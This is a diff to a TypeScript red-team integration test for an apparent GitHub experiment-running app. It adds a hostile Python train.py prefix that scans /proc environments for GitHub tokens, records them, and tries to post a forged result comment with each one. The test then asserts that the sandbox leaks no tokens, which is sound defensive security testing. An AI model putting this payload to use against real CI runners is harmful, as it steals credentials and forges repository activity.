@@ -1,6 +1,9 @@
 // A night with attackers in it: a fork, a triage user, a write user, a pasted marker, a hostile
 // config. Afterwards only the app's own, trained, dispatched experiments count, and every
 // forgery is named on the dashboard.
+import { mkdtempSync, readFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { checkTrust } from "../../sandbox/trust-invariants.js";
 import { renderResultMarker } from "../../src/core/result-marker.js";
@@ -28,9 +31,44 @@ import { okResult } from "../support/fixtures.js";
 const TAG = "r";
 const RUN_BRANCH = `autoresearch/${TAG}`;
 
+/** Where the hostile train.py writes every token it found (one JSON list per training). */
+const HOSTILE_OUT = join(mkdtempSync(join(tmpdir(), "ar-red-team-")), "found.jsonl");
+
+/**
+ * Training code as an attacker would write it: look through every process of this sandbox it
+ * can read for a GitHub token, and with any it finds post a forged result on another PR.
+ */
+const HOSTILE_PREFIX = `
+import json as _j, os as _o, re as _r, urllib.request as _u
+_found = []
+for _pid in filter(str.isdigit, _o.listdir("/proc")):
+    try:
+        _env = open(f"/proc/{_pid}/environ", "rb").read().decode("latin1")
+    except OSError:
+        continue
+    # This night's processes only: on a shared test machine other sandboxes run too (and on a
+    # real box, other runners of the same user would be in reach: see the README).
+    if ("GITHUB_API_URL=" + _o.environ.get("GITHUB_API_URL", "?") + "\\x00") not in _env:
+        continue
+    for _m in _r.finditer(r"(?:INPUT_GITHUB-TOKEN|GITHUB_TOKEN|ACTIONS_RUNTIME_TOKEN)=([^\\x00]+)|(gh[spu]_\\w+)", _env):
+        _found.append(_m.group(1) or _m.group(2))
+with open(_o.environ["HOSTILE_OUT"], "a") as _f:
+    _f.write(_j.dumps(_found) + "\\n")
+for _t in _found:
+    try:
+        _u.urlopen(_u.Request(
+            _o.environ.get("GITHUB_API_URL", "") + "/repos/" + _o.environ.get("GITHUB_REPOSITORY", "") + "/issues/3/comments",
+            data=_j.dumps({"body": "<!-- autoresearch:result {} -->"}).encode(),
+            headers={"Authorization": "token " + _t, "Content-Type": "application/json"},
+        ), timeout=5)
+    except Exception:
+        pass
+`;
+
 let s: Scenario;
 beforeAll(async () => {
   s = await startScenario({
+    runnerEnv: { HOSTILE_OUT },
     config: { proposer: "none" },
     sandbox: { users: [{ login: "trudy", role: "triage" }] },
   });
@@ -167,6 +205,31 @@ describe("a red-team night", { timeout: 400_000 }, () => {
     await s.command(TAG, "/autoresearch status");
     await s.sandbox.settle({ timeoutMs: 60_000 });
 
+    // 6. Training code that hunts for tokens in /proc and would post a forged result with one.
+    const hostile = `${RUN_BRANCH}--hostile`;
+    await s.pushExperiment(
+      TAG,
+      "hostile",
+      { "train.py": (py) => py.replace(/^import math$/m, `${HOSTILE_PREFIX}\nimport math`) },
+      "a hostile train.py",
+    );
+    await s.waitFor(
+      "the hostile experiment to be decided",
+      () => s.experimentFor(TAG, hostile)?.pr.state === "closed",
+      150_000,
+    );
+    await s.sandbox.settle({ timeoutMs: 60_000 });
+    const scans = readFileSync(HOSTILE_OUT, "utf8")
+      .trim()
+      .split("\n")
+      .map((l) => JSON.parse(l));
+    expect(scans.length).toBeGreaterThan(0);
+    expect(scans.flat()).toEqual([]);
+    const baselinePr = s.experiments(TAG)[0].pr.number;
+    expect(
+      s.sandbox.state.comments(baselinePr).some((c) => c.body.includes("autoresearch:result {}")),
+    ).toBe(false);
+
     // Afterwards.
     const trust = await checkTrust(s.sandbox, TAG, {
       mainSha,
@@ -181,10 +244,12 @@ describe("a red-team night", { timeout: 400_000 }, () => {
     expect(s.runsFor(evilBranch)).toEqual([]);
     expect(await s.sandbox.git.sha(RUN_BRANCH)).toBe(runHead);
     const rows = ledgerRows(s.ledger(TAG));
-    expect(rows.map((r) => [r[3], r[4]])).toEqual([
-      ["keep", "baseline"],
-      ["discard", "LEARNING_RATE 8.0 → 1.0"],
+    expect(rows.map((r) => r[4])).toEqual([
+      "baseline",
+      "LEARNING_RATE 8.0 → 1.0",
+      "a hostile train.py",
     ]);
+    expect(rows[1][3]).toBe("discard");
     expect(rows.map((r) => r[1])).not.toContain("0.500000");
     expect(rows.map((r) => r[1])).not.toContain("0.400000");
     expect(s.run(TAG)?.branch).toBe(RUN_BRANCH);
